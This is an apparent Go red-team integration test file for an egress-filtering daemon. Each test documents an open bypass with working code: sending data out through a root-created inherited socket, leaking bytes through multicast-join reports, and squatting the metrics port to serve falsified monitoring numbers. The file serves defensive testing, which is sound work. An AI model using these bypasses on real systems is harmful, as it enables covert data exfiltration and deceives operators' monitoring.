//go:build linux && redteam

package integration

// Red-team findings still open: ways for an unprivileged process of a
// protected user to send data to a destination that is not in its
// allowlist, which nftables rules keyed by the socket's uid cannot stop
// (docs/security.md, "egressd does not stop"). Each test FAILS while the
// hole is open; they are kept out of the main suite by the build tag:
//
//	go test -tags redteam ./integration -run TestRedteam -count=1 -v
//
// The attacker is a child process of this test binary running as uidA
// (billing) with no capability, inside the world's namespace; the verdict is
// taken on the receiving side, as in attack_test.go.

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/egressd/egressd/internal/testworld"
	"golang.org/x/sys/unix"
)

func init() {
	childModes["inherited"] = childInherited
	childModes["mcast-join"] = childMcastJoin
}

// ---------------------------------------------------------------------------
// R1. A socket that root created and the service inherited (systemd socket
// activation: ListenStream=/ListenDatagram=; any daemon that binds as root
// and then drops to its user: nginx, named, postfix…; or one received over
// SCM_RIGHTS). `meta skuid` is the fsuid of the credentials of the socket's
// *file*, i.e. of its creator: root. Such a socket is not restricted at all.
// A listening TCP socket is turned back into an unconnected one by
// shutdown(SHUT_RDWR) (inet_shutdown → tcp_disconnect) and then connects
// anywhere; a datagram socket sends anywhere as it is.

// childInherited: fd 3 is a listening TCP socket, fd 4 a bound UDP socket,
// both created by root.
func childInherited(string) int {
	tcpDst := netip.MustParseAddrPort(os.Getenv("ATTACK_TCP"))
	udpDst := netip.MustParseAddrPort(os.Getenv("ATTACK_UDP"))
	nonce := os.Getenv("ATTACK_NONCE")
	res := map[string]any{"uid": os.Getuid(), "euid": os.Geteuid()}
	res["shutdown"] = errName(unix.Shutdown(3, unix.SHUT_RDWR))
	tv := unix.NsecToTimeval((1500 * time.Millisecond).Nanoseconds())
	unix.SetsockoptTimeval(3, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &tv) //nolint:errcheck
	res["tcp_connect"] = errName(unix.Connect(3, sockaddr(tcpDst)))
	res["udp_send"] = errName(unix.Sendto(4, []byte("exfil-"+nonce), 0, sockaddr(udpDst)))
	// Control: a socket of its own.
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err == nil {
		res["own_udp_send"] = errName(unix.Sendto(fd, []byte("own-"+nonce), 0, sockaddr(udpDst)))
		unix.Close(fd)
	}
	report(res)
	return 0
}

// rootSocket creates a socket as root inside the world and binds it; a
// stream socket also listens. The returned file is handed to a child.
func (w *world) rootSocket(typ int, bind string) *os.File {
	w.t.Helper()
	var f *os.File
	err := w.ns.Do(func() error {
		fd, err := unix.Socket(unix.AF_INET, typ, 0)
		if err != nil {
			return err
		}
		unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1) //nolint:errcheck
		if err := unix.Bind(fd, sockaddr(netip.MustParseAddrPort(bind))); err != nil {
			unix.Close(fd)
			return err
		}
		if typ == unix.SOCK_STREAM {
			if err := unix.Listen(fd, 16); err != nil {
				unix.Close(fd)
				return err
			}
		}
		f = os.NewFile(uintptr(fd), "root-socket")
		return nil
	})
	if err != nil {
		w.t.Fatal(err)
	}
	w.t.Cleanup(func() { f.Close() })
	return f
}

// runChildFiles is runChild with files handed down as fds 3, 4, …
func (w *world) runChildFiles(uid int, mode string, files []*os.File, env ...string) map[string]any {
	w.t.Helper()
	cmd := exec.Command(clientBin)
	cmd.Env = append([]string{"EGRESSD_TEST_CLIENT=" + mode, "EGRESSD_TEST_ADDR="}, env...)
	testworld.AsUser(cmd, uid)
	cmd.ExtraFiles = files
	cmd.Stderr = os.Stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		w.t.Fatal(err)
	}
	if err := w.ns.Start(cmd); err != nil {
		w.t.Fatal(err)
	}
	var m map[string]any
	dec := json.NewDecoder(out)
	if err := dec.Decode(&m); err != nil {
		w.t.Fatalf("child %s: %v", mode, err)
	}
	cmd.Wait() //nolint:errcheck
	return m
}

func TestRedteamInheritedRootSocket(t *testing.T) {
	w := newWorld(t)
	w.standardConfig()
	w.start()
	const tcpDst, udpDst = "198.51.100.20:7777", "198.51.100.20:7778" // not in billing's allowlist
	tc := w.countTCP(w.ns, tcpDst)
	sink := w.record(w.ns, udpDst, false)
	// Controls: the user's own sockets are refused.
	w.expect(uidA, "tcp", tcpDst, okRefused)
	w.expect(uidA, "udp", udpDst, okRefused)

	ln := w.rootSocket(unix.SOCK_STREAM, "192.0.2.11:9000")
	dg := w.rootSocket(unix.SOCK_DGRAM, "192.0.2.11:9001")
	nonce := strconv.FormatInt(time.Now().UnixNano(), 36)
	res := w.runChildFiles(uidA, "inherited", []*os.File{ln, dg},
		"ATTACK_TCP="+tcpDst, "ATTACK_UDP="+udpDst, "ATTACK_NONCE="+nonce)
	w.barrier(w.ns, sink, udpDst)
	t.Logf("child as uid %v: shutdown(listener) %v, connect %s: %v; sendto %s on the inherited UDP socket: %v; on its own socket: %v",
		res["uid"], res["shutdown"], tcpDst, res["tcp_connect"], udpDst, res["udp_send"], res["own_udp_send"])
	if sink.seen("own-" + nonce) {
		t.Fatal("control failed: the user's own UDP socket reached the unlisted destination")
	}
	if n := tc.count(); n > 0 {
		t.Errorf("a protected user connected to the unlisted %s from a root-created listening socket it inherited (shutdown, then connect): %d connection(s)", tcpDst, n)
	}
	if sink.seen("exfil-" + nonce) {
		t.Errorf("a protected user sent a datagram to the unlisted %s from a root-created UDP socket it inherited", udpDst)
	}
}

// ---------------------------------------------------------------------------
// R2. Multicast group membership. IP_ADD_MEMBERSHIP / IPV6_JOIN_GROUP (and
// the source-specific forms) need no privilege; the kernel then sends an
// IGMPv3 report to 224.0.0.22 / an MLDv2 report to ff02::16 on the chosen
// interface, naming the group (28 bits of IPv4, 112 of IPv6, chosen by the
// user) and, for source-specific joins, any number of source addresses.
// The report is built by the kernel without a socket (igmpv3_sendpack,
// mld_sendpack), so `meta skuid` does not match and it leaves unfiltered: a
// covert channel to every host on the link (and to multicast routers, which
// propagate joins).

func childMcastJoin(string) int {
	ifi, err := net.InterfaceByName(os.Getenv("ATTACK_IF"))
	res := map[string]any{}
	if err != nil {
		res["error"] = err.Error()
		report(res)
		return otherError
	}
	g4 := netip.MustParseAddr(os.Getenv("ATTACK_G4"))
	g6 := netip.MustParseAddr(os.Getenv("ATTACK_G6"))
	fd4, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err == nil {
		defer unix.Close(fd4)
		res["join4"] = errName(unix.SetsockoptIPMreqn(fd4, unix.IPPROTO_IP, unix.IP_ADD_MEMBERSHIP,
			&unix.IPMreqn{Multiaddr: g4.As4(), Ifindex: int32(ifi.Index)}))
		// Control: sending to the group itself is an ordinary, filtered packet.
		unix.SetsockoptInt(fd4, unix.IPPROTO_IP, unix.IP_MULTICAST_IF, 0) //nolint:errcheck
		res["send4"] = errName(unix.Sendto(fd4, []byte("x"), 0, sockaddr(netip.AddrPortFrom(g4, 9))))
	}
	fd6, err := unix.Socket(unix.AF_INET6, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err == nil {
		defer unix.Close(fd6)
		res["join6"] = errName(unix.SetsockoptIPv6Mreq(fd6, unix.IPPROTO_IPV6, unix.IPV6_JOIN_GROUP,
			&unix.IPv6Mreq{Multiaddr: g6.As16(), Interface: uint32(ifi.Index)}))
	}
	time.Sleep(500 * time.Millisecond) // the unsolicited reports go out at once
	report(res)
	return 0
}

func TestRedteamMulticastJoinReport(t *testing.T) {
	w := newWorld(t)
	w.standardConfig()
	p := w.addPeer()
	w.start()
	sn := w.sniffReports(p, "wire")
	// The data: three bytes in the IPv4 group, eight in the IPv6 one.
	nonce := uint64(time.Now().UnixNano())
	var b [8]byte
	binary.BigEndian.PutUint64(b[:], nonce)
	g4 := netip.AddrFrom4([4]byte{239, b[5], b[6], b[7]})
	var a16 [16]byte
	a16[0], a16[1] = 0xff, 0x0e
	copy(a16[8:], b[:])
	g6 := netip.AddrFrom16(a16)
	_, res := w.runChild(uidA, "mcast-join", "", "ATTACK_IF=wire", "ATTACK_G4="+g4.String(), "ATTACK_G6="+g6.String())
	t.Logf("child: join %s: %v, join %s: %v; a datagram to the group itself: %v", g4, res["join4"], g6, res["join6"], res["send4"])
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) && !(sn.seen(g4) && sn.seen(g6)) {
		time.Sleep(50 * time.Millisecond)
	}
	if sn.seen(g4) {
		t.Errorf("an IGMPv3 report naming the user-chosen group %s left the host for 224.0.0.22 (not in the allowlist)", g4)
	}
	if sn.seen(g6) {
		t.Errorf("an MLDv2 report naming the user-chosen group %s left the host for ff02::16 (not in the allowlist)", g6)
	}
}

func init() { childModes["metrics-squat"] = childMetricsSquat }

// childMetricsSquat listens on addr before egressd does and answers every
// request with metrics of its own choosing, until its stdin closes.
func childMetricsSquat(addr string) int {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		fmt.Printf("{\"error\":%q}\n", err.Error())
		return otherError
	}
	srv := &http.Server{ReadHeaderTimeout: time.Second, Handler: http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(rw, "# served by uid "+strconv.Itoa(os.Getuid())+", not egressd\negressd_drift_repairs_total 0\negressd_denied_packets_total{allowlist=\"billing\"} 0\n")
	})}
	go srv.Serve(ln) //nolint:errcheck
	fmt.Println(`{"listening":true}`)
	io.Copy(io.Discard, os.Stdin) //nolint:errcheck
	return okConnected
}

// metrics_listen is an unprivileged TCP port (9464 in the docs). Any local
// user (here uidNone, which no allowlist names; a protected service may too:
// binding is not egress) that binds it first, at boot or while egressd
// restarts for an upgrade, serves the host's monitoring numbers of its own
// choosing: no drift repairs, no denied packets. egressd logs one
// metrics_failed line and runs on, READY=1 and all ("enforcement is
// unaffected"); monitoring cannot tell. The test scrapes metrics_listen
// after egressd started and wants egressd's answer.
func TestRedteamMetricsPortSquatted(t *testing.T) {
	w := newWorld(t)
	w.standardConfig()
	w.write("egressd.yaml", mainConfig+"metrics_listen: 127.0.0.1:9464\n")
	sq := w.startChild(uidNone, "metrics-squat", "127.0.0.1:9464")
	if m := sq.next(t, 5*time.Second); m["listening"] != true {
		t.Fatalf("squatter: %v", m)
	}
	m := w.mark()
	w.start()
	body, err := w.metricsGet("127.0.0.1:9464")
	if err != nil {
		t.Fatal(err)
	}
	failed := len(w.eventsSince("metrics_failed", m)) > 0
	if strings.Contains(body, "not egressd") {
		t.Errorf("egressd started (metrics_failed logged: %v) while uid %d serves its metrics address; a scrape reads:\n%s", failed, uidNone, body)
	}
}
